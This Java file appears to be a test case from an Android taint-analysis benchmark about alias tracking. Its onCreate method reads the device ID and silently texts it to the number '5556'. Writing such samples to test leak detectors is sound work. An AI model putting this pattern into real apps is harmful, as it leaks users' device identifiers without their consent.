package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** The alias is made by a method that is called. */
public class AliasBelow extends Case {
    static class Inner { String v; }
    static class Outer { Inner in = new Inner(); }
    static Inner open(Outer o) { return o.in; }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        Outer o = new Outer();
        Inner i = open(o);
        o.in.v = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        SmsManager.getDefault().sendTextMessage("5556", null, i.v, null, null);
    }
}
